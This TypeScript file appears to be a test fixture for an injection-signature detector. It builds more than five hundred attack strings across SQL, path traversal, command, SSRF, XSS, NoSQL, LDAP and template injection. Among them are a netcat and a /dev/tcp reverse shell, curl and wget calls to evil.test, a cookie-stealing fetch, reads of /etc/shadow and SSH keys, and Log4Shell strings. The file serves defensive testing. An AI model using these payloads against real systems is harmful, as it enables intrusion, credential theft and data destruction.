// biome-ignore-all lint/suspicious/noTemplateCurlyInString: these are texts that look like code
/** Attacks combined from parts, as a scanner or a patient attacker would do. */
import type { SignatureCategory } from '../../../src/problems/reasons.ts'

/** Returns every combination of one part from each list, joined. */
function combined(...lists: readonly (readonly string[])[]): string[] {
  return lists.reduce<string[]>(
    (texts, parts) => texts.flatMap((text) => parts.map((part) => text + part)),
    [''],
  )
}

const SQL = [
  // A condition that is always true, after a value of each kind.
  ...combined(
    ['1', "'", "x'", "admin' ", '5) ', "a') ", '" ', 'z") '],
    [' or 1=1', ' OR 2>1', '/**/or/**/7=7', ' || 1=1', ' or not 1=2', ' or true is not null'],
    ['-- -', ' #', ' /*'],
  ),
  ...combined(["' or ", "') or ", "' AND ", "'||"], ["'a'='a", "'1'>'0", "'x' like 'x"], ['']),
  ...combined(['" or ', '") or '], ['"a"="a', '"1" like "1']),
  // A second query.
  ...combined(
    ['-1', "' ", "0') ", '" '],
    [
      ' union select ',
      ' UNION ALL SELECT ',
      '/*!50000union*//**/select ',
      ' union distinct select ',
    ],
    ['null,null', '1,2,3', 'user(),version()', 'login, password from users'],
    ['-- ', '#'],
  ),
  // A second statement.
  ...combined(
    ['1', "'", "x')", '"'],
    [
      '; drop table users',
      ';insert into admins values (1)',
      '; update users set role=1',
      '; exec master..xp_cmdshell "dir"',
      '; shutdown',
      ";waitfor delay '0:0:9'",
      '; delete from orders',
    ],
    ['--', ' -- x'],
  ),
  // Delays, errors and column counts.
  ...combined(
    ["1' and ", '1 and ', '" or '],
    [
      'sleep(5)',
      'benchmark(9000000,md5(1))',
      '(select 1 from pg_sleep(5))',
      'extractvalue(1,concat(0x7e,version()))',
      'ascii(substr((select password from users limit 1),1,1))>64',
      'exists(select * from users)',
    ],
    ['-- ', '#'],
  ),
  ...combined(["1' ", '3 ', "1') "], ['order by 7', 'group by 1,2', 'having 1=1'], ['-- -', '#']),
  ...combined(["admin'", "root'", 'admin"', "a')"], ['--', '#', '/*', ' -- -', ';--']),
  ...combined(["'"], ["-sleep(9)-'", "+(select 1)+'", "||utl_http.request('x')||'", '=0 -- ']),
]

const TARGETS = ['etc/passwd', 'windows/win.ini', 'proc/self/environ', 'boot.ini']
const PATHS = [
  ...combined(['../', '../../', '../../../../../../'], TARGETS),
  ...combined(
    ['', 'images/', '/var/www/html/', 'file.txt/'],
    ['../../../../../../../', '..\\..\\..\\..\\..\\..\\'],
    ['x', 'secret.txt', 'app/config.yml'],
  ),
  ...combined(
    ['', 'static/'],
    [
      '..%2f..%2f',
      '%2e%2e%2f%2e%2e%2f',
      '..%5c..%5c',
      '..%252f..%252f',
      '%c0%ae%c0%ae/%c0%ae%c0%ae/',
      '....//....//',
      '..;/..;/',
      '..\\/..\\/',
      '.%2e/.%2e/',
      '..%c0%af..%c0%af',
    ],
    ['etc/passwd', 'admin', 'WEB-INF/web.xml'],
  ),
  ...['/etc/passwd', '/etc/shadow', '/proc/self/environ', 'C:\\Windows\\win.ini', 'c:/boot.ini'],
  ...combined(['../', '..\\'], ['.git/config', '.env', '.ssh/id_rsa', 'wp-config.php']),
]

const COMMANDS = [
  ...combined(
    ['127.0.0.1', 'report.pdf', '', 'x'],
    [';', ' | ', '&&', ' || ', '%0a', '`'],
    ['cat /etc/passwd', 'whoami', 'ping -c 3 127.0.0.1', 'curl http://evil.test/x', 'sleep 10'],
  ),
  ...combined(
    ['a', 'host.test', ''],
    ['$(', '`'],
    ['id', 'uname -a', 'wget evil.test', 'nc -e /bin/sh 10.0.0.1 4444'],
    [')', '`'],
  ),
  ...combined(
    [';', '|', '&', '\n'],
    ['id', 'ls', 'dir', '/usr/bin/id', 'ls -la', 'type C:\\boot.ini'],
  ),
  ...combined(
    ['8.8.8.8', ''],
    [
      ';cat${IFS}/etc/passwd',
      ";c'a't /etc/passwd",
      ';w\\ho\\ami',
      ';{cat,/etc/passwd}',
      '|/b??/c?t /etc/passwd',
    ],
  ),
  ...[
    '() { :;}; /bin/bash -c "id"',
    '; bash -i >& /dev/tcp/10.0.0.1/99 0>&1',
    '& powershell -enc AAAA',
  ],
  ...["system('id')", '<!--#exec cmd="id"-->', "__import__('os').system('id')", '${@phpinfo()}'],
]

const INSIDE = [
  ...['169.254.169.254', '2852039166', '0xa9fea9fe', '0251.0376.0251.0376', '0xA9.0xFE.0xA9.0xFE'],
  ...[
    '127.0.0.1',
    '2130706433',
    '0x7f000001',
    '017700000001',
    '127.1',
    '0177.0.0.1',
    '0',
    '0.0.0.0',
  ],
  ...[
    '[::1]',
    '[::]',
    '[::ffff:127.0.0.1]',
    '[::ffff:a9fe:a9fe]',
    '[fd00:ec2::254]',
    '[64:ff9b::7f00:1]',
  ],
  ...['10.0.0.5', '172.16.0.1', '192.168.0.1', '192.168.257', '3232235521', '100.64.0.1'],
  ...[
    'localhost',
    'LOCALHOST.',
    'metadata.google.internal',
    '127.0.0.1.nip.io',
    '10-0-0-1.sslip.io',
  ],
  ...['①②⑦.⓪.⓪.①', 'kubernetes.default.svc', 'api.prod.svc.cluster.local', 'example.com@127.0.0.1'],
]
const SSRF = [
  ...combined(['http://', 'https://', '//', 'http:\\\\'], INSIDE, ['/', '/latest/meta-data/iam']),
  ...combined(['http://localhost:', 'http://127.0.0.1:'], ['6379/', '9200/_search', '2375/info']),
  ...[
    'file:///etc/passwd',
    'gopher://x.test:25/_HELO',
    'dict://x.test:11211/stat',
    'ldap://x.test/a',
  ],
  ...['php://filter/convert.base64-encode/resource=a', 'jar:http://x.test/a!/b', 'tftp://x.test/a'],
  ...['phar://a.phar/b', 'expect://id', 'netdoc:///etc/passwd', 'file:%2f%2f/etc/passwd'],
]

const RUNS = [
  'alert(1)',
  'alert`1`',
  'fetch("//evil.test/"+document.cookie)',
  'import("//evil.test/x")',
]
const XSS = [
  ...combined(
    ['', '">', "'>", '</title>', '-->'],
    ['<script>', '<ScRiPt >', '<script/x>', '<svg><script>'],
    RUNS,
    ['</script>'],
  ),
  ...combined(
    ['', '"><', 'x'],
    [
      '<img src=x onerror=',
      '<svg/onload=',
      '<body onpageshow=',
      '<details open ontoggle=',
      '<video><source onerror=',
      '<input autofocus onfocus=',
    ],
    RUNS.map((run) => `${run.replaceAll('"', '&quot;')}>`),
  ),
  ...combined(
    ['<a href=', '<iframe src=', '<form action=', '<math href='],
    [
      'javascript:alert(1)',
      '"java&#115;cript:alert(1)"',
      "'jAvAsCrIpT:alert(1)'",
      'data:text/html,<b>x',
    ],
    ['>x'],
  ),
  ...combined(['javascript:', 'JaVaScRiPt:', ' javascript:', 'vbscript:', 'java\tscript:'], RUNS),
  ...combined(['"', "'", "x' "], [' onmouseover=', ' autofocus onfocus=', '/onclick='], RUNS),
  ...combined(
    ["'", '"', "';", '");'],
    ['-', ';', '+'],
    ['alert(1)', 'confirm(1)', 'eval(name)'],
    ["-'", '//'],
  ),
  ...combined(['%3Cscript%3E', '\\u003cscript\\u003e', '\\x3cscript\\x3e'], ['alert(1)'], ['']),
  ...["{{constructor.constructor('alert(1)')()}}", '<iframe srcdoc="<b>">', '</script><b>'],
]

const NOSQL = [
  // Operators as names, as steps of names, and in texts of JSON.
  ...combined(['$'], ['ne', 'gt', 'nin', 'where', 'regex', 'or', 'expr'], ['']),
  ...combined(['user', 'a[b]', ''], ['[$ne]', '[$gt]', "['$in']", '[$regex]']),
  ...combined(
    ['{', '{ "a": {'],
    ['"$ne"', "'$gt'", '$where', '$or'],
    [': null}', ': [ {} ]', ": '1'}"],
  ),
  ...combined(["', ", 'x, ', "' }, "], ["$where: 'sleep(9)'", '$or: [{}]', '$expr: {']),
  // Statements after a quote or a number, and calls of the shell.
  ...combined(
    ["'", "x'", '1', '5', "a') "],
    [';', '||', ' && '],
    ['var a=1', 'return true', 'while(1){}', 'do {}', 'if (1)', 'sleep(900)', 'this.a'],
  ),
  ...combined(
    ['', "';", ' '],
    ['db.users'],
    ['.find({})', '.insertOne({a:1})', '.drop()', '.update ('],
  ),
]

const LDAP = [
  ...combined(
    ['*', 'x', 'admin', ''],
    [')(', '))('],
    ['uid=*', 'objectClass=*', '&)', '|(cn=*', '!(a=b', 'mail>=a', 'sn~=x'],
  ),
  ...combined(
    ['*', 'x', 'admin'],
    ['(&(', '(|(', '(| (', '(&(!('],
    ['uid=a)', 'cn=*)', 'a:dn:=b)', 'n<=5)'],
  ),
  ...combined(['(&(', '(|('], ['1=0)', 'uid=a)(0=1)', 'cn=*)(userPassword>=a)'], [')']),
  ...combined(['userPassword', 'cn'], [':2.5.13.18:=', ':dn:2.5.13.2:='], ['x']),
]

const TEMPLATES = [
  ...combined(
    ['${', '#{', '*{', '@{', '{{', '{{{', '{{=', '<%= '],
    ['7*7', "7*'7'", ' 13 * 37 ', '9+9'],
    ['}', '}}', '%>'],
  ),
  ...combined(
    ['{{', '{% set x = ', 'a{{ '],
    ["''.__class__", '().__class__.__mro__[1]', 'x.__init__.__globals__', "''|attr('a')"],
    ['}}', ' %}'],
  ),
  ...combined(
    ['{{'],
    ['config.items()', 'self._TemplateReference', 'request.application', '_self.env'],
    ['}}'],
  ),
  ...combined(
    ['${', '%{', '#{', '*{'],
    ['T(java.lang.Runtime)', '"".getClass()', '#x.getRuntime()', 'x?new()'],
    ['}'],
  ),
  ...combined(
    ['${jndi:', '${${lower:j}ndi:', '${${::-j}ndi:', '${${env:A:-j}ndi:'],
    ['ldap', 'rmi', 'dns'],
    ['://a.example/x}'],
  ),
  ...combined(['<%= ', '#{', '${', '{{'], ['system("id")', 'exec("id")'], [' %>', '}']),
  ...combined(['<%= ', '#{'], ['`id`'], [' %>', '}']),
  ...combined(['{{["id"]'], ['|filter("system")', '|map("passthru")'], ['}}']),
  ...combined(
    ['${', '#{', '{{', '<%= '],
    ['process.mainModule', 'global.process.x', 'require("fs")'],
    ['}', ' %>'],
  ),
  '<#assign x="freemarker.template.utility.Execute"?new()>',
]

/** More than five hundred attacks, without duplicates. */
export const ATTACKS: Readonly<Record<SignatureCategory, readonly string[]>> = {
  sql_injection: [...new Set(SQL)],
  path_traversal: [...new Set(PATHS)],
  command_injection: [...new Set(COMMANDS)],
  ssrf_target: [...new Set(SSRF)],
  cross_site_scripting: [...new Set(XSS)],
  nosql_injection: [...new Set(NOSQL)],
  ldap_injection: [...new Set(LDAP)],
  template_injection: [...new Set(TEMPLATES)],
}
